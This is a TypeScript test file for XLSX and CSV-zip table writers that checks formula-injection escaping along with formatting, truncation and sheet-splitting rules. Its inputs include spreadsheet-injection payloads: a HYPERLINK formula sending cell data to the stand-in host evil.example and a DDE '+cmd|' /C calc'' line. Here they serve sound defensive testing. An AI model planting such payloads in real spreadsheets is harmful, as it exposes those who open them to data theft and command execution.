import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { PassThrough } from 'node:stream';
import { SheetSpec } from './cells';
import { CsvZipTableWriter } from './csvZipWriter';
import { createTableWriter, TableWriter } from './index';
import { XlsxTableWriter } from './xlsxWriter';

const servers: SheetSpec = {
  name: 'Servers',
  columns: [
    { header: 'Name', kind: 'text' },
    { header: 'vCPUs', kind: 'number' },
    { header: 'Tags', kind: 'list' },
    { header: 'Locked', kind: 'boolean' },
    { header: 'Created', kind: 'timestamp' },
    { header: 'Metadata', kind: 'json' },
  ],
};

const hostileNames = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  '@SUM(1)',
  '-2+3',
  '\tindented',
  '＝full-width',
  'plain, "quoted"\nname',
];

const rows = [
  ...hostileNames.map(name => [
    name,
    2,
    ['a', 'b'],
    false,
    '2026-11-26T08:00:00Z',
    { k: 'v' },
  ]),
  ['negative', -4, [], true, new Date('2026-01-01T00:00:00Z'), null],
];

/** Writes each [sheet, rows] pair with a fresh writer and returns the file. */
async function render(
  makeWriter: (out: PassThrough) => TableWriter,
  sheets: Array<[SheetSpec, unknown[][]]>,
) {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', chunk => chunks.push(chunk));
  const writer = makeWriter(out);
  for (const [sheet, data] of sheets) {
    await writer.writeSheet(sheet, () => data);
  }
  await writer.finish();
  return Buffer.concat(chunks);
}

async function readXlsx(buffer: Buffer) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(buffer as any);
  return workbook;
}

describe('XLSX writer', () => {
  it('neutralises formula triggers in text, keeps numbers numeric and writes no formula cells (EXP-9)', async () => {
    const buffer = await render(
      out => createTableWriter('xlsx', out),
      [[servers, rows]],
    );
    const sheet = (await readXlsx(buffer)).getWorksheet('Servers')!;
    expect(sheet.getRow(1).values).toEqual([
      undefined,
      'Name',
      'vCPUs',
      'Tags',
      'Locked',
      'Created',
      'Metadata',
    ]);
    expect(sheet.getRow(1).font?.bold).toBe(true);
    const names = hostileNames.map((_, index) => sheet.getCell(index + 2, 1));
    expect(names.map(cell => cell.value)).toEqual([
      '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
      "'+cmd|' /C calc'!A0",
      "'@SUM(1)",
      "'-2+3",
      "'\tindented",
      "'＝full-width",
      'plain, "quoted"\nname',
    ]);
    for (const cell of names) {
      expect(cell.type).toBe(ExcelJS.ValueType.String);
    }
    const negative = sheet.getCell(hostileNames.length + 2, 2);
    expect(negative.value).toBe(-4);
    expect(negative.type).toBe(ExcelJS.ValueType.Number);
  });

  it('applies the cell rules of EXP-5', async () => {
    const buffer = await render(
      out => createTableWriter('xlsx', out),
      [[servers, rows]],
    );
    const sheet = (await readXlsx(buffer)).getWorksheet('Servers')!;
    expect(sheet.getRow(2).values).toEqual([
      undefined,
      expect.any(String),
      2,
      'a; b',
      'false',
      '2026-11-26T08:00:00.000Z',
      '{"k":"v"}',
    ]);
    expect(sheet.getCell(hostileNames.length + 2, 5).value).toBe(
      '2026-01-01T00:00:00.000Z',
    );
    expect(sheet.getCell(hostileNames.length + 2, 6).value).toBeNull();
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet.autoFilter).toBeTruthy();
    expect(sheet.getColumn(2).width).toBe('vCPUs'.length + 2);
  });

  it('cuts text beyond 32,767 characters and caps column widths at 80', async () => {
    const long = 'x'.repeat(40_000);
    const buffer = await render(
      out => createTableWriter('xlsx', out),
      [
        [
          { name: 'Long', columns: [{ header: 'Description', kind: 'text' }] },
          [[long]],
        ],
      ],
    );
    const sheet = (await readXlsx(buffer)).getWorksheet('Long')!;
    const value = sheet.getCell(2, 1).value as string;
    expect(value).toHaveLength(32_767);
    expect(value.endsWith('…[truncated]')).toBe(true);
    expect(sheet.getColumn(1).width).toBe(80);
  });

  it('writes the header of an empty sheet and continues long sheets in "<Sheet> (2)"', async () => {
    const empty: SheetSpec = {
      name: 'Backups',
      columns: [{ header: 'Backup ID', kind: 'text' }],
    };
    const many: SheetSpec = {
      name: 'Ports',
      columns: [{ header: 'Port ID', kind: 'text' }],
    };
    const buffer = await render(
      out => new XlsxTableWriter(out, 3),
      [[empty, []]],
    );
    expect(
      (await readXlsx(buffer)).getWorksheet('Backups')!.getRow(1).values,
    ).toEqual([undefined, 'Backup ID']);

    const out = new PassThrough();
    const chunks: Buffer[] = [];
    out.on('data', chunk => chunks.push(chunk));
    const writer = new XlsxTableWriter(out, 3);
    await writer.writeSheet(many, () =>
      ['p1', 'p2', 'p3', 'p4', 'p5'].map(id => [id]),
    );
    await writer.finish();
    const workbook = await readXlsx(Buffer.concat(chunks));
    expect(workbook.worksheets.map(sheet => sheet.name)).toEqual([
      'Ports',
      'Ports (2)',
    ]);
    expect(
      workbook
        .getWorksheet('Ports (2)')!
        .getSheetValues()
        .slice(1)
        .map(r => (r as any[])[1]),
    ).toEqual(['Port ID', 'p4', 'p5']);
  });
});

describe('CSV zip writer', () => {
  it('writes one RFC 4180 file per sheet with the same columns, neutralised text and numeric numbers', async () => {
    const empty: SheetSpec = {
      name: 'Backups',
      columns: [{ header: 'Backup ID', kind: 'text' }],
    };
    const buffer = await render(
      out => createTableWriter('csv', out),
      [
        [servers, rows],
        [empty, []],
      ],
    );
    const zip = await JSZip.loadAsync(buffer);
    expect(Object.keys(zip.files).sort()).toEqual([
      'Backups.csv',
      'Servers.csv',
    ]);
    expect(await zip.file('Backups.csv')!.async('string')).toBe(
      'Backup ID\r\n',
    );

    const csv = await zip.file('Servers.csv')!.async('string');
    const lines = csv.split('\r\n');
    expect(lines[0]).toBe('Name,vCPUs,Tags,Locked,Created,Metadata');
    expect(lines[1]).toBe(
      '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",2,a; b,false,2026-11-26T08:00:00.000Z,"{""k"":""v""}"',
    );
    expect(lines[2].startsWith("'+cmd|' /C calc'!A0,")).toBe(true);
    expect(lines[3].startsWith("'@SUM(1),")).toBe(true);
    expect(lines[4].startsWith("'-2+3,")).toBe(true);
    expect(lines[5].startsWith("'\tindented,")).toBe(true);
    expect(lines[6].startsWith("'＝full-width,")).toBe(true);
    expect(csv).toContain('"plain, ""quoted""\nname",2,');
    expect(csv).toContain('negative,-4,,true,2026-01-01T00:00:00.000Z,\r\n');
  });

  it('adds a BOM only when asked', async () => {
    const sheet: SheetSpec = {
      name: 'S',
      columns: [{ header: 'H', kind: 'text' }],
    };
    const withBom = await render(
      out => new CsvZipTableWriter(out, { bom: true }),
      [[sheet, []]],
    );
    const without = await render(
      out => new CsvZipTableWriter(out),
      [[sheet, []]],
    );
    expect(
      await (await JSZip.loadAsync(withBom)).file('S.csv')!.async('string'),
    ).toBe('\uFEFFH\r\n');
    expect(
      await (await JSZip.loadAsync(without)).file('S.csv')!.async('string'),
    ).toBe('H\r\n');
  });
});

describe('sheet preamble', () => {
  const summary: SheetSpec = {
    name: 'Summary',
    columns: [
      { header: 'Type', kind: 'text' },
      { header: 'Count', kind: 'number' },
    ],
    preamble: [
      ['Cloud', 'demo'],
      ['Scope', '=evil'],
    ],
  };

  it('writes label/value lines and an empty line above the table, with the header and pane below them', async () => {
    const buffer = await render(
      out => createTableWriter('xlsx', out),
      [[summary, [['Servers', 3]]]],
    );
    const sheet = (await readXlsx(buffer)).getWorksheet('Summary')!;
    expect(sheet.getRow(1).values).toEqual([undefined, 'Cloud', 'demo']);
    expect(sheet.getRow(2).values).toEqual([undefined, 'Scope', "'=evil"]);
    expect(sheet.getRow(4).values).toEqual([undefined, 'Type', 'Count']);
    expect(sheet.getRow(4).font?.bold).toBe(true);
    expect(sheet.getRow(5).values).toEqual([undefined, 'Servers', 3]);
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 4 });
  });

  it('writes the same layout into the CSV file', async () => {
    const buffer = await render(
      out => createTableWriter('csv', out),
      [[summary, [['Servers', 3]]]],
    );
    const csv = await (await JSZip.loadAsync(buffer))
      .file('Summary.csv')!
      .async('string');
    expect(csv).toBe(
      "Cloud,demo\r\nScope,'=evil\r\n\r\nType,Count\r\nServers,3\r\n",
    );
  });
});
